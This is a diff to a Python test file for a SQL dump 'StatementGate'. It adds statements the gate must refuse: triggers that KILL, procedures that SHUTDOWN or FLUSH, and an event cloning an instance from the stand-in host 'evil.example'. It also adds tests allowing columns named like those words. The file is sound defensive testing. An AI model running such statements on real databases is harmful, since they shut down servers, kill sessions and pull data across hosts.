@@ -485,6 +485,11 @@ def test_a_character_set_named_by_a_definition_is_no_switch(statement: str) -> N
     "CLONE LOCAL DATA DIRECTORY = '/tmp/x'",
     "CREATE FUNCTION f RETURNS INTEGER SONAME 'x.so'",
     "UPDATE t SET a = 1 WHERE id = 1; SHUTDOWN",
+    "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW KILL - 1",
+    "CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW KILL NOT 0",
+    "CREATE PROCEDURE p() BEGIN SELECT clone FROM t; FLUSH LOCAL TABLES; END",
+    "CREATE PROCEDURE p() BEGIN SELECT a, shutdown FROM t; SHUTDOWN; END",
+    "CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO CLONE INSTANCE FROM 'u'@'evil.example':3306 IDENTIFIED BY 'p'",
 ])
 def test_the_words_of_statements_that_act_beyond_the_database_are_still_refused_next_to_columns(
         statement: str) -> None:
@@ -493,6 +498,18 @@ def test_the_words_of_statements_that_act_beyond_the_database_are_still_refused_
     gate = StatementGate(["shop"], ["shop", "other"])
     with pytest.raises(DatabaseError, match="refusing statement 2 of the dump: it uses"):
         gate.check(statement.encode(), 2)
+
+
+@pytest.mark.parametrize("statement", [
+    "CREATE VIEW v AS SELECT clone, flush AS f, kill FROM t WHERE shutdown > 0 ORDER BY execute DESC",
+    "CREATE PROCEDURE p() SELECT a, prepare, binlog FROM t WHERE sys_exec IS NULL OR load_file LIKE 'x%'",
+    "SELECT COUNT(flush), MAX(clone) FROM t GROUP BY execute HAVING shutdown < 2 LIMIT 1",
+    "SELECT a FROM t WHERE kill IN (1, 2) AND datafile BETWEEN 0 AND 1 XOR soname ASC",
+    "SELECT outfile, dumpfile FROM t WHERE global < 1 AND persist > 0",
+])
+def test_bare_columns_named_like_the_refused_words_are_no_statement(statement: str) -> None:
+    """Selected, compared, grouped by: followed by what never follows the statement or function of that name."""
+    StatementGate(["shop"], ["shop", "other"]).check(statement.encode(), 2)
 
 
 @pytest.mark.parametrize("statement", [
